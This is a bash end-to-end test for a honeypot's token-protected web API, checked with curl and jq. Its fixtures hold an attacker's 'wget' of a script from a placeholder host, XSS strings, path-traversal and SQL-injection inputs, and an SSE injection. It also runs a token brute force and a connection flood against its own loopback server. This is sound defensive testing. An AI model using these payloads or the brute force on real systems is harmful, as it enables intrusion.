#!/usr/bin/env bash
# The web API end to end (issue 18, first slice): a store with sessions,
# events and a download (written through the store's own write path by
# helpers_web/store_fill: no intrusion needed), `karakuri web` serving it on
# a loopback port, checked with curl and jq: 401 without the token and with a
# wrong one, the bodies equal to the CLI's --json, events in pages chained by
# next, a tty log as asciicast v2, intrusions and a graph, an artifact as an attachment (a link in
# the artifacts directory refused), ports and payloads, openapi.json, the
# security headers, hostile requests survived, the events stream (follow=1:
# an event written after it opened, Last-Event-ID, 8 streams at most, 401
# without the token, pings, ended on SIGTERM), a
# brute force of the token answered 429; then, with a Docker engine, the API
# served by `karakuri run` under [web] listen.
. "$KARAKURI_SRC/tests/e2e/lib.sh"
command -v jq >/dev/null || e2e_skip "no jq"
FILL="$KARAKURI_BUILD/tests/e2e/helpers_web/store_fill"
[[ -x "$FILL" ]] || e2e_fail "no $FILL (build the e2e helpers)"

conf=$(e2e_config "")
var="$E2E_TMP/var"

# ---- the store ----
# a tty log (asciicast v2, as src/ssh/ttylog.c stores it) and a downloaded
# file, as artifacts named by their SHA-256
cast='{"version": 2, "width": 80, "height": 24, "timestamp": 1796119204}
[0.1, "i", "uname -a\r"]
[0.2, "o", "Linux web01 5.10.0-honey #1 SMP x86_64 GNU/Linux\r\n"]'
mkdir -p "$var/artifacts"
cast_sha=$(printf '%s\n' "$cast" | sha256sum | cut -c1-64)
printf '%s\n' "$cast" >"$var/artifacts/$cast_sha"
dl_sha=$(printf '<script>alert(1)</script>\n' | sha256sum | cut -c1-64)
printf '<script>alert(1)</script>\n' >"$var/artifacts/$dl_sha"
{
  echo '{"type":"sensor.start","ts":"2026-12-01T10:00:00Z","version":"e2e"}'
  echo '{"type":"session.connect","ts":"2026-12-01T10:00:01Z","session":"w1","src_ip":"198.51.100.7","src_port":40000}'
  echo '{"type":"login.failed","ts":"2026-12-01T10:00:02Z","session":"w1","src_ip":"198.51.100.7","username":"root","password":"123456"}'
  echo '{"type":"login.success","ts":"2026-12-01T10:00:03Z","session":"w1","src_ip":"198.51.100.7","username":"\"><img src=x onerror=alert(1)>","password":"<script>alert(1)</script>","honeynet":"hn-w1"}'
  echo '{"type":"command.input","ts":"2026-12-01T10:00:04Z","session":"w1","src_ip":"198.51.100.7","input":"wget http://203.0.113.5/x.sh; echo \u001b[2J \u009b31m"}'
  echo '{"type":"file.download","ts":"2026-12-01T10:00:05Z","honeynet":"hn-w1","url":"http://203.0.113.5/x.sh","src_ip":"10.13.0.2"}'
  echo '{"type":"tty.log","ts":"2026-12-01T10:00:08Z","session":"w1","channel":0,"artifact":"'"$cast_sha"'","format":"asciicast-v2","size":1}'
  echo '{"type":"port.opened","ts":"2026-12-01T10:00:08Z","proto":"tcp","port":2323}'
  echo '{"type":"session.closed","ts":"2026-12-01T10:00:09Z","session":"w1","src_ip":"198.51.100.7","duration_ms":8000,"reason":"client"}'
  echo '{"type":"session.connect","ts":"2026-12-01T11:00:00Z","session":"w2","src_ip":"198.51.100.8","src_port":40001}'
  for i in $(seq 1 240); do
    printf '{"type":"login.failed","ts":"2026-12-01T11:%02d:%02dZ","session":"w2","src_ip":"198.51.100.8","username":"u%d","password":"p"}\n' $((i / 60)) $((i % 60)) "$i"
  done
} | "$FILL" "$var" || e2e_fail "store_fill"

# ---- refused listeners ----
set +e
"$KARAKURI" -c "$conf" web --listen 0.0.0.0:18088 2>"$E2E_TMP/err"; rc=$?
set -e
e2e_assert_eq 2 "$rc" "non-loopback --listen exit status"
grep -q "not a loopback address" "$E2E_TMP/err" || e2e_fail "non-loopback --listen: $(cat "$E2E_TMP/err")"
bad="$E2E_TMP/bad.conf"
printf '[store]\ndir = %s\n[web]\nlisten = 203.0.113.9:8088\n' "$var" >"$bad"
set +e
"$KARAKURI" -c "$bad" web 2>"$E2E_TMP/err"; rc=$?
set -e
e2e_assert_eq 2 "$rc" "non-loopback [web] listen exit status"
grep -q "\[web\] listen.*not a loopback address" "$E2E_TMP/err" || e2e_fail "[web] listen: $(cat "$E2E_TMP/err")"
grep -q "^listen = $" <<<"$("$KARAKURI" config | sed -n '/^\[web\]/,/^\[/p')" || e2e_fail "[web] listen not empty by default"

# ---- karakuri web ----
"$KARAKURI" -c "$conf" web --listen 127.0.0.1:0 2>"$E2E_TMP/web.log" &
web_pid=$!
e2e_defer "kill -TERM $web_pid 2>/dev/null; wait $web_pid"
e2e_wait_for 10 grep -q "serving http://127.0.0.1:" "$E2E_TMP/web.log" || e2e_fail "karakuri web did not start"
port=$(sed -n 's|.*serving http://127.0.0.1:\([0-9]*\)/.*|\1|p' "$E2E_TMP/web.log" | head -1)
base="http://127.0.0.1:$port/api/v1"
e2e_log "serving on port $port"

[[ -f "$var/web.token" ]] || e2e_fail "no web.token"
e2e_assert_eq 600 "$(stat -c %a "$var/web.token")" "web.token mode"
token=$(cat "$var/web.token")
[[ "$token" =~ ^[0-9a-f]{64}$ ]] || e2e_fail "web.token is not 64 hex digits: $token"

# Requests stay under the rate limit (20 a second per source).
api() { # PATH [curl args...]: prints the body; status in $E2E_TMP/status
  local path=$1; shift
  sleep 0.06
  curl -s -o "$E2E_TMP/body" -D "$E2E_TMP/headers" -w '%{http_code}' -H "Authorization: Bearer $token" \
    "$@" "$base/$path" >"$E2E_TMP/status" || true
  cat "$E2E_TMP/body"
}
status() { cat "$E2E_TMP/status"; }

# 401 without the token, with a wrong one, and with another scheme; the
# security headers on a refusal too.
code=$(curl -s -o /dev/null -D "$E2E_TMP/h401" -w '%{http_code}' "$base/sessions")
e2e_assert_eq 401 "$code" "no token"
grep -qi '^Content-Security-Policy: default-src .self.' "$E2E_TMP/h401" || e2e_fail "401 without CSP"
wrong=$(printf '%064d' 0)
code=$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $wrong" "$base/sessions")
e2e_assert_eq 401 "$code" "wrong token"
code=$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Basic $token" "$base/sessions")
e2e_assert_eq 401 "$code" "Basic scheme"

# health
api health >"$E2E_TMP/health.json"
e2e_assert_eq 200 "$(status)" "health status"
jq -e '.store == "sqlite" and .schema_version >= 1 and .last_event == "2026-12-01T11:04:00.000000Z" and (.sensor | length > 0)' \
  "$E2E_TMP/health.json" >/dev/null || e2e_fail "health: $(cat "$E2E_TMP/health.json")"
for h in "Content-Security-Policy: default-src 'self'" "X-Content-Type-Options: nosniff" "Cache-Control: no-store" \
  "Content-Type: application/json"; do
  grep -qiF "$h" "$E2E_TMP/headers" || e2e_fail "header missing: $h"
done

# sessions and sessions/ID: the same JSON as the CLI's --json
"$KARAKURI" -c "$conf" sessions --json | jq -c . >"$E2E_TMP/cli-sessions"
api sessions | jq -c '.[]' >"$E2E_TMP/api-sessions"
e2e_assert_eq 200 "$(status)" "sessions status"
[[ $(wc -l <"$E2E_TMP/cli-sessions") -eq 2 ]] || e2e_fail "the CLI lists $(wc -l <"$E2E_TMP/cli-sessions") sessions"
cmp -s "$E2E_TMP/cli-sessions" "$E2E_TMP/api-sessions" || e2e_fail "sessions differ from the CLI's: $(diff "$E2E_TMP/cli-sessions" "$E2E_TMP/api-sessions")"
"$KARAKURI" -c "$conf" session w1 --json | jq -c . >"$E2E_TMP/cli-w1"
api sessions/w1 | jq -c '.[]' >"$E2E_TMP/api-w1"
e2e_assert_eq 200 "$(status)" "sessions/w1 status"
cmp -s "$E2E_TMP/cli-w1" "$E2E_TMP/api-w1" || e2e_fail "session w1 differs from the CLI's: $(diff "$E2E_TMP/cli-w1" "$E2E_TMP/api-w1")"
grep -q 'file.download' "$E2E_TMP/api-w1" || e2e_fail "session w1 lacks its honeynet's download"
# the attacker's strings come back as JSON strings, unchanged
jq -e '.[] | select(.type=="login.success") | .username == "\"><img src=x onerror=alert(1)>"' "$E2E_TMP/body" >/dev/null ||
  e2e_fail "the hostile user name did not come back as it was"
api sessions/nosuch >/dev/null
e2e_assert_eq 404 "$(status)" "unknown session"
api 'sessions/..%2F..%2Fetc' >/dev/null
e2e_assert_eq 404 "$(status)" "a path as a session id"

# events: pages of 100 chained by next give every event once, in order, as
# `karakuri events --json` prints them
"$KARAKURI" -c "$conf" events --json | jq -c . >"$E2E_TMP/cli-events"
: >"$E2E_TMP/api-events"
after=0 pages=0
while :; do
  api "events?limit=100&after_id=$after" >"$E2E_TMP/page.json"
  e2e_assert_eq 200 "$(status)" "events page $pages"
  jq -c '.events[]' "$E2E_TMP/page.json" >>"$E2E_TMP/api-events"
  pages=$((pages + 1))
  next=$(jq -r '.next' "$E2E_TMP/page.json")
  [[ "$next" == null ]] && break
  after=$next
  ((pages < 10)) || e2e_fail "events pages never end"
done
e2e_assert_eq 3 "$pages" "pages of 100 for 250 events"
cmp -s "$E2E_TMP/cli-events" "$E2E_TMP/api-events" || e2e_fail "paged events differ from events --json"
# filters
n=$(api "events?type=login&session=w1&limit=1000" | jq '.events | length')
e2e_assert_eq 2 "$n" "events of group login in w1"
n=$(api "events?src_ip=198.51.100.8&limit=1000" | jq '.events | length')
e2e_assert_eq 241 "$n" "events from 198.51.100.8"
n=$(api "events?since=2026-12-01T11:00:00Z&type=session.connect" | jq '.events | length')
e2e_assert_eq 1 "$n" "events since 11:00"
n=$(api "events?honeynet=hn-w1&type=file.download" | jq '.events | length')
e2e_assert_eq 1 "$n" "downloads of hn-w1"
api "events?type=nosuch" >/dev/null
e2e_assert_eq 400 "$(status)" "unknown type"
api "events?limit=100000" >/dev/null
e2e_assert_eq 400 "$(status)" "limit over the cap"
api "events?after_id=1%27%20OR%201=1" >/dev/null
e2e_assert_eq 400 "$(status)" "SQL in after_id"

# downloads
api downloads >"$E2E_TMP/dl.json"
e2e_assert_eq 200 "$(status)" "downloads status"
jq -e '(.events | length) == 1 and .events[0].url == "http://203.0.113.5/x.sh" and .next == null' "$E2E_TMP/dl.json" >/dev/null ||
  e2e_fail "downloads: $(cat "$E2E_TMP/dl.json")"

# sessions/ID/tty/N: the stored asciicast v2, the command's output in it
api sessions/w1/tty/0 >"$E2E_TMP/tty0"
e2e_assert_eq 200 "$(status)" "tty/0 status"
grep -qi '^Content-Type: application/x-asciicast' "$E2E_TMP/headers" || e2e_fail "tty/0 not application/x-asciicast"
head -1 "$E2E_TMP/tty0" | jq -e '.version == 2 and .width > 0' >/dev/null || e2e_fail "tty/0 is not asciicast v2"
tail -n +2 "$E2E_TMP/tty0" | jq -rs 'map(select(.[1] == "o") | .[2]) | join("")' | grep -q "GNU/Linux" ||
  e2e_fail "tty/0 lacks the command's output"
api sessions/w1/tty/1 >/dev/null
e2e_assert_eq 404 "$(status)" "tty/1 of a session with one log"
api sessions/w2/tty/0 >/dev/null
e2e_assert_eq 404 "$(status)" "tty/0 of a session without logs"

# artifacts/SHA256: an attachment, never rendered; only 64 hex digits
api "artifacts/$dl_sha" >"$E2E_TMP/art"
e2e_assert_eq 200 "$(status)" "artifact status"
printf '<script>alert(1)</script>\n' | cmp -s - "$E2E_TMP/art" || e2e_fail "the artifact's bytes differ"
for h in "Content-Disposition: attachment; filename=\"$dl_sha\"" "Content-Type: application/octet-stream" \
  "X-Content-Type-Options: nosniff"; do
  grep -qiF "$h" "$E2E_TMP/headers" || e2e_fail "artifact header missing: $h"
done
ln -s "$var/web.token" "$var/artifacts/$(printf '%064d' 1)"
api "artifacts/$(printf '%064d' 1)" >/dev/null
e2e_assert_eq 404 "$(status)" "a link in the artifacts directory"
api "artifacts/${dl_sha:0:63}" >/dev/null
e2e_assert_eq 404 "$(status)" "63 hex digits"
api "artifacts/..%2Fweb.token" >/dev/null
e2e_assert_eq 404 "$(status)" "a path as an artifact"

# intrusions: one per source; the graph of 198.51.100.7 has its login on
# hn-w1's gateway
api intrusions >"$E2E_TMP/intr.json"
e2e_assert_eq 200 "$(status)" "intrusions status"
jq -e 'length == 2 and .[0].src == "198.51.100.7" and .[0].sessions == 1 and .[0].downloads == 1 and .[0].hosts == 1' \
  "$E2E_TMP/intr.json" >/dev/null || e2e_fail "intrusions: $(cat "$E2E_TMP/intr.json")"
api intrusions/198.51.100.7/graph >"$E2E_TMP/graph.json"
e2e_assert_eq 200 "$(status)" "graph status"
jq -e '(.nodes | map(select(.kind == "attacker" and .ip == "198.51.100.7")) | length == 1) and
  (.edges | map(select(.source == "attacker:198.51.100.7" and .target == "gateway:hn-w1" and .kind == "login" and .count == 1)) | length == 1)' \
  "$E2E_TMP/graph.json" >/dev/null || e2e_fail "graph: $(cat "$E2E_TMP/graph.json")"
api intrusions/203.0.113.77/graph >/dev/null
e2e_assert_eq 404 "$(status)" "the graph of a source without sessions"
api "intrusions/%3Cscript%3E/graph" >/dev/null
e2e_assert_eq 404 "$(status)" "the graph of no address"

# ports and payloads: the sensor's events, empty pages when none
api ports >"$E2E_TMP/ports.json"
e2e_assert_eq 200 "$(status)" "ports status"
jq -e '(.events | length) == 1 and .events[0].port == 2323 and .next == null' "$E2E_TMP/ports.json" >/dev/null ||
  e2e_fail "ports: $(cat "$E2E_TMP/ports.json")"
api payloads >"$E2E_TMP/payloads.json"
e2e_assert_eq 200 "$(status)" "payloads status"
jq -e '.events == [] and .next == null' "$E2E_TMP/payloads.json" >/dev/null || e2e_fail "payloads: $(cat "$E2E_TMP/payloads.json")"

# openapi.json: the file in docs/, as it is
api openapi.json >"$E2E_TMP/openapi.json"
e2e_assert_eq 200 "$(status)" "openapi.json status"
cmp -s "$KARAKURI_SRC/docs/openapi.json" "$E2E_TMP/openapi.json" || e2e_fail "openapi.json is not docs/openapi.json"
jq -e '.openapi | startswith("3.0")' "$E2E_TMP/openapi.json" >/dev/null || e2e_fail "openapi.json is not OpenAPI 3.0"
for p in /health /events /sessions '/sessions/{id}' '/sessions/{id}/tty/{n}' /hosts /downloads /ports /payloads '/artifacts/{sha256}' /intrusions '/intrusions/{src}/graph' /openapi.json; do
  jq -e --arg p "$p" '.paths[$p].get' "$E2E_TMP/openapi.json" >/dev/null || e2e_fail "openapi.json lacks $p"
done

# hostile requests: methods, bodies, a huge URL and header, garbage, many
# connections at once; the server answers on
api health -X POST -d 'x=1' >/dev/null
e2e_assert_eq 405 "$(status)" "POST"
api health -X PUT >/dev/null
e2e_assert_eq 405 "$(status)" "PUT"
api nosuch >/dev/null
e2e_assert_eq 404 "$(status)" "unknown route"
long=$(head -c 100000 /dev/zero | tr '\0' a)
code=$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $token" "$base/events?type=$long" || true)
[[ "$code" == 414 || "$code" == 431 || "$code" == 400 || "$code" == 000 ]] || e2e_fail "a 100 KB URL answered $code"
code=$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $token" -H "X-Big: $long" "$base/health" || true)
[[ "$code" == 431 || "$code" == 400 || "$code" == 413 || "$code" == 000 ]] || e2e_fail "a 100 KB header answered $code"
printf 'GARBAGE \x00\x01\x02 nonsense\r\n\r\n' | timeout 5 bash -c "cat >/dev/tcp/127.0.0.1/$port" 2>/dev/null || true
idle_pids=()
for i in $(seq 1 40); do
  timeout 5 bash -c "exec 3<>/dev/tcp/127.0.0.1/$port; sleep 2" 2>/dev/null &
  idle_pids+=($!)
done
sleep 0.5
wait_ok=0
for i in $(seq 1 20); do
  api health >/dev/null
  [[ "$(status)" == 200 ]] && { wait_ok=1; break; }
  sleep 0.5
done
((wait_ok)) || e2e_fail "the server stopped answering after hostile requests"
wait "${idle_pids[@]}" || true
kill -0 "$web_pid" || e2e_fail "karakuri web died"

# ---- the events stream: follow=1 as Server-Sent Events ----
sse_pids=()
sse() { # NAME [curl args...]: a stream in the background into $E2E_TMP/NAME(.h)
  local name=$1; shift
  sleep 0.06
  curl -sN -D "$E2E_TMP/$name.h" -o "$E2E_TMP/$name" -H "Authorization: Bearer $token" \
    -H 'Accept: text/event-stream' "$@" "$base/events?follow=1" 2>/dev/null &
  sse_pids+=($!)
  e2e_defer "kill $! 2>/dev/null"
}
code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 5 -H 'Accept: text/event-stream' "$base/events?follow=1")
e2e_assert_eq 401 "$code" "a stream without the token"
last=$(api health | jq -r '.last_id')
sse s1
e2e_wait_for 10 grep -qi '^Content-Type: text/event-stream' "$E2E_TMP/s1.h" || e2e_fail "no stream: $(cat "$E2E_TMP/s1.h")"
head -1 "$E2E_TMP/s1.h" | grep -q ' 200' || e2e_fail "stream status: $(head -1 "$E2E_TMP/s1.h")"
grep -qi '^Cache-Control: no-store' "$E2E_TMP/s1.h" || e2e_fail "stream without Cache-Control: no-store"
grep -qi '^Content-Security-Policy: default-src .self.' "$E2E_TMP/s1.h" || e2e_fail "stream without CSP"
grep -qi '^X-Content-Type-Options: nosniff' "$E2E_TMP/s1.h" || e2e_fail "stream without nosniff"
sleep 0.3
[[ ! -s "$E2E_TMP/s1" ]] || e2e_fail "a stream from now on sent old events: $(head -c 300 "$E2E_TMP/s1")"
echo '{"type":"login.failed","ts":"2026-12-01T12:00:00Z","session":"w3","src_ip":"198.51.100.9","username":"sse\nid: 1","password":"p"}' |
  "$FILL" "$var" || e2e_fail "store_fill (the stream's event)"
e2e_wait_for 10 grep -q '^data: ' "$E2E_TMP/s1" || e2e_fail "the event written after the stream opened did not come"
new=$((last + 1))
e2e_assert_eq "id: $new" "$(head -1 "$E2E_TMP/s1")" "the stream's first line"
sed -n 2p "$E2E_TMP/s1" | sed 's/^data: //' | jq -e '.type == "login.failed" and .username == "sse\nid: 1" and .session == "w3"' >/dev/null ||
  e2e_fail "the stream's data line: $(sed -n 2p "$E2E_TMP/s1")"
e2e_assert_eq "" "$(sed -n 3p "$E2E_TMP/s1")" "the blank line after an event"
# resumed after an id (Last-Event-ID), and with the page's filters
sleep 0.06
curl -sN --max-time 3 -o "$E2E_TMP/s-resume" -H "Authorization: Bearer $token" -H 'Accept: text/event-stream' \
  -H "Last-Event-ID: $((new - 2))" "$base/events?follow=1&type=login" || true
e2e_assert_eq "id: $((new - 1))" "$(head -1 "$E2E_TMP/s-resume")" "Last-Event-ID resumes after it"
grep -q "^id: $new\$" "$E2E_TMP/s-resume" || e2e_fail "the resumed stream lacks event $new"
sleep 0.06
curl -sN --max-time 3 -o "$E2E_TMP/s-after" -H "Authorization: Bearer $token" -H 'Accept: text/event-stream' \
  "$base/events?follow=1&type=session&after_id=0" || true
e2e_assert_eq 3 "$(grep -c '^data: ' "$E2E_TMP/s-after")" "session events from after_id=0"
grep '^data: ' "$E2E_TMP/s-after" | sed 's/^data: //' | jq -e 'select(.type | startswith("session.") | not)' >/dev/null &&
  e2e_fail "type=session let other events through"
# at most 8 streams: the 9th is told to come back later (the two streams
# above went: their places come back within a round of the follower)
sleep 1
for i in 2 3 4 5 6 7 8; do sse "s$i"; done
for i in 2 3 4 5 6 7 8; do
  e2e_wait_for 10 grep -qi '^Content-Type: text/event-stream' "$E2E_TMP/s$i.h" || e2e_fail "stream $i did not open"
done
sleep 0.06
code=$(curl -s -o /dev/null -D "$E2E_TMP/s9.h" -w '%{http_code}' --max-time 5 -H "Authorization: Bearer $token" \
  -H 'Accept: text/event-stream' "$base/events?follow=1" || true)
e2e_assert_eq 503 "$code" "the 9th stream"
grep -qi '^Retry-After: [1-9]' "$E2E_TMP/s9.h" || e2e_fail "503 without Retry-After"
# the page is still served meanwhile; and a client that goes gives its place back
api "events?limit=1" | jq -e '.events | length == 1' >/dev/null || e2e_fail "the page beside 8 streams"
for i in 1 2 3 4 5 6; do kill "${sse_pids[$i]}"; wait "${sse_pids[$i]}" 2>/dev/null || true; done
e2e_wait_for 5 sh -c "curl -s -o /dev/null -w '%{http_code}' --max-time 1 -H 'Authorization: Bearer $token' \
  -H 'Accept: text/event-stream' '$base/events?follow=1' | grep -q 200" || e2e_fail "streams that went did not give their places back"
kill "${sse_pids[7]}"; wait "${sse_pids[7]}" 2>/dev/null || true

# a brute force of the token: after a few failures each further try is
# answered 429 with Retry-After, the right token too, for a while
n401=0 n429=0
for i in $(seq 1 12); do
  code=$(curl -s -o /dev/null -D "$E2E_TMP/hbf" -w '%{http_code}' -H "Authorization: Bearer $(printf '%064d' "$i")" "$base/health")
  case $code in 401) n401=$((n401 + 1)) ;; 429) n429=$((n429 + 1)) ;; esac
done
e2e_log "brute force: $n401 x 401, $n429 x 429"
e2e_assert_ge "$n429" 6 "429s in a brute force of 12"
(( n401 <= 6 )) || e2e_fail "$n401 guesses judged in a brute force of 12"
grep -qi '^Retry-After: [1-9]' "$E2E_TMP/hbf" || e2e_fail "429 without Retry-After"
code=$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $token" "$base/health")
e2e_assert_eq 429 "$code" "the right token during the lockout"

# a quiet stream gets a ": ping" comment every 15 s
e2e_wait_for 20 grep -q '^: ping$' "$E2E_TMP/s1" || e2e_fail "no ping on a quiet stream in 20 s"
kill -0 "${sse_pids[0]}" || e2e_fail "the quiet stream's curl ended"

# SIGTERM with a stream open (s1): the stream is ended and karakuri web
# exits at once
exited() { [[ ! -e /proc/$1 ]] || grep -q '^[0-9]* ([^)]*) Z' "/proc/$1/stat" 2>/dev/null; }
t0=$(date +%s%N)
kill -TERM "$web_pid"
e2e_wait_for 10 exited "$web_pid" || { kill -KILL "$web_pid"; e2e_fail "karakuri web did not exit within 10 s of SIGTERM with a stream open"; }
ms=$((($(date +%s%N) - t0) / 1000000))
wait "$web_pid" || e2e_fail "karakuri web did not exit 0 on SIGTERM (with a stream open)"
e2e_log "karakuri web exited within ${ms} ms of SIGTERM with a stream open"
(( ms < 5000 )) || e2e_fail "karakuri web took ${ms} ms to exit with a stream open"
e2e_wait_for 5 exited "${sse_pids[0]}" || e2e_fail "the stream's curl was not ended by the server's stop"
rc=0
wait "${sse_pids[0]}" || rc=$?
(( rc == 0 || rc == 18 )) || e2e_fail "the stream's curl ended with $rc"

# The token is kept across starts.
"$KARAKURI" -c "$conf" web --listen 127.0.0.1:0 2>"$E2E_TMP/web2.log" &
web2_pid=$!
e2e_defer "kill -TERM $web2_pid 2>/dev/null; wait $web2_pid"
e2e_wait_for 10 grep -q "serving http://" "$E2E_TMP/web2.log" || e2e_fail "second karakuri web did not start: $(cat "$E2E_TMP/web2.log")"
e2e_assert_eq "$token" "$(cat "$var/web.token")" "token reused"
kill -TERM "$web2_pid"
wait "$web2_pid" || true

# ---- served by karakuri run ([web] listen), when there is an engine ----
if ! e2e_docker_up; then
  e2e_log "no Docker engine: karakuri run's web service not tried"
  exit 0
fi
runconf=$(e2e_config "[ssh]
listen = 127.0.0.1:0
[web]
listen = 127.0.0.1:0")
e2e_start_karakuri "$runconf"
e2e_wait_for 60 grep -q "web API on http://127.0.0.1:" "$E2E_TMP/karakuri.log" || e2e_fail "run did not start the web API"
rport=$(sed -n 's|.*web API on http://127.0.0.1:\([0-9]*\)/.*|\1|p' "$E2E_TMP/karakuri.log" | head -1)
e2e_wait_for 20 sh -c "curl -sf -H 'Authorization: Bearer $token' http://127.0.0.1:$rport/api/v1/health | jq -e '.last_event' >/dev/null" ||
  e2e_fail "run's web API does not answer health"
curl -sf -H "Authorization: Bearer $token" "http://127.0.0.1:$rport/api/v1/events?type=sensor.start" |
  jq -e '.events | length == 2' >/dev/null || e2e_fail "run's web API: not the two sensor.start events"
kill -TERM "$KK_PID"
wait "$KK_PID" || e2e_fail "run did not exit 0 with the web API"
e2e_log "ok"
